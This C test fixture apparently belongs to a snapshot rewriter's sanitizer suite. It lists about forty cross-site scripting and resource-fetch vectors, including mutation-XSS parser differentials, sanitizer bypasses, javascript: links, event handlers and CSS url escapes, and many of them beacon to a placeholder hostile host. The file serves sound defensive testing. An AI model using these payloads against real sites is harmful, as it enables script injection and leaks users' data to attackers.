/* hostile-vectors.c: pages that try to run or fetch from a snapshot
 *
 * The parser differentials and bypasses that a hostile-page suite found
 * in the Original's rewriter (DOMPurify's classics and ones aimed at this
 * pipeline), and the plain cases beside them.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include "hostile-vectors.h"

#define P "document.title='ran';new Image().src='{E}/ran'"

const HostileVector hostile_vectors[] = {
  { "svg-style-img", "<svg><style><img src=x onerror=\"" P "\"></style></svg>" },
  { "svg-p-math-title-style", "<svg></p><math><title><style><img src=x onerror=\"" P "\">" },
  { "comment-early-end", "<!--><img src=x onerror=\"" P "\">-->" },
  { "comment-bang", "<!--!><img src=x onerror=\"" P "\">-->" },
  { "noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=&quot;" P "&quot;>\"></noscript>" },
  { "xmp", "<xmp><img src=x onerror=\"" P "\"></xmp>" },
  { "textarea", "<textarea><img src=x onerror=\"" P "\"></textarea>" },
  { "title-rcdata", "<title></title><img src=x onerror=\"" P "\">" },
  { "script", "<script>" P "</script><p>text</p>" },
  { "img-onerror", "<img src=x onerror=\"" P "\"><body onload=\"" P "\">" },
  { "javascript-link", "<a href=\"javascript:" P "\">a</a><a href=\" JaVaScRiPt:" P "\">b</a>"
                       "<a href=\"&#106;avascript:" P "\">c</a><a href=\"java&#x09;script:" P "\">d</a>" },
  { "vbscript-data-links", "<a href=\"vbscript:msgbox(1)\">a</a><a href=\"data:text/html,<script>" P "</script>\">b</a>" },
  { "form-action", "<form action=\"{E}/form\"><input name=q value=1><button formaction=\"javascript:" P "\">go</button>"
                   "<input type=submit formaction=\"{E}/submit\"><input type=image src=\"{E}/input.png\"></form>" },
  { "form-clip", "<form action=\"clip://original/1/1\" method=get><button>Go</button></form>" },
  { "svg-image-use", "<svg><image href=\"{E}/svg-image.png\"/><image xlink:href=\"{E}/svg-image2.png\"/>"
                     "<use href=\"{E}/sprite.svg#a\"/><use xlink:href=\"{E}/sprite2.svg#a\"/></svg>" },
  { "svg-paint-url", "<svg><rect fill=\"url({E}/paint.svg#p)\" filter=\"url({E}/f.svg#f)\" width=9 height=9 /></svg>" },
  { "svg-animate", "<svg><a><animate attributeName=\"href\" to=\"javascript:" P "\"/><text>x</text></a>"
                   "<set attributeName=\"onmouseover\" to=\"" P "\"/></svg>" },
  { "svg-link", "<svg><a href=\"javascript:" P "\"><text>click</text></a><a xlink:href=\"{E}/x\"><text>y</text></a></svg>" },
  { "svg-foreign", "<svg><foreignObject><iframe src=\"javascript:" P "\"></iframe><img src=x onerror=\"" P "\"></foreignObject></svg>" },
  { "svg-script", "<svg><script>" P "</script><g onload=\"" P "\"/></svg>" },
  { "svg-style-import", "<svg><style>@import url({E}/svg.css); rect{fill:url({E}/fill.png)}</style></svg>" },
  { "math-maction", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:" P "\"><mtext>x</mtext></maction>"
                    "<mtext><img src=x onerror=\"" P "\"></mtext><annotation-xml encoding=\"text/html\"><img src=x onerror=\"" P "\"></annotation-xml></math>" },
  { "ping", "<a href=\"https://example.org/\" ping=\"{E}/ping\">x</a>" },
  { "css-import", "<style>@import \"{E}/import.css\"; @import url({E}/import2.css);</style>" },
  { "css-escapes", "<style>body{background:u\\72l({E}/escaped.png)} p{background:\\75rl({E}/escaped2.png)}</style>" },
  { "css-image-set", "<style>div{background-image:image-set(\"{E}/set.png\" 1x);"
                     "background:-webkit-image-set('{E}/set2.png' 2x)}</style>" },
  { "css-font", "<style>@font-face{font-family:f;src:url({E}/font.woff)}</style>" },
  { "css-style-attribute", "<div style=\"background:url({E}/attr.png);background-image:u\\72l({E}/attr2.png)\">x</div>" },
  { "css-close-style", "<style>p{content:\"</style><img src=x onerror='" P "'>\"}</style>" },
  { "frames", "<iframe srcdoc=\"<script>" P "</script>\"></iframe><iframe src=\"{E}/frame\"></iframe>"
              "<object data=\"{E}/object\"></object><embed src=\"{E}/embed\"><frameset><frame src=\"{E}/frame2\"></frameset>" },
  { "base", "<base href=\"{E}/\"><img src=\"relative.png\"><a href=\"x\">x</a>" },
  { "meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url={E}/refresh\"><meta http-equiv=\"set-cookie\" content=\"a=b\">" },
  { "links", "<link rel=stylesheet href=\"{E}/sheet.css\"><link rel=prefetch href=\"{E}/prefetch\">"
             "<link rel=preload href=\"{E}/preload\" as=image><link rel=import href=\"{E}/import.html\">" },
  { "backgrounds", "<table background=\"{E}/table.png\"><tr><td background=\"{E}/td.png\">x</td></tr></table>"
                   "<body background=\"{E}/body.png\">" },
  { "media", "<video poster=\"{E}/poster.png\" src=\"{E}/v.mp4\"></video><audio src=\"{E}/a.mp3\"></audio>"
             "<picture><source srcset=\"{E}/s.png\"><img src=x srcset=\"{E}/srcset.png 2x\"></picture>" },
  { "template", "<template><img src=x onerror=\"" P "\"></template>" },
  { "data-image-ok", "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img src=\"data:text/html,<script>" P "</script>\">" },
  { "entity-name-tricks", "<img src=x OnErRoR=\"" P "\"><img src=x onerror\x0b=\"" P "\"><a/href=\"javascript:" P "\">x</a>" },
  { NULL, NULL },
};

char *
hostile_vector_page (const HostileVector *vector,
                     const char          *evil)
{
  g_autoptr(GString) page = g_string_new ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>");
  g_autofree char *payload = NULL;

  g_string_append (page, vector->html);
  g_string_append (page, "</body></html>");
  g_string_replace (page, "{E}", evil, 0);
  return g_string_free (g_steal_pointer (&page), FALSE);
}
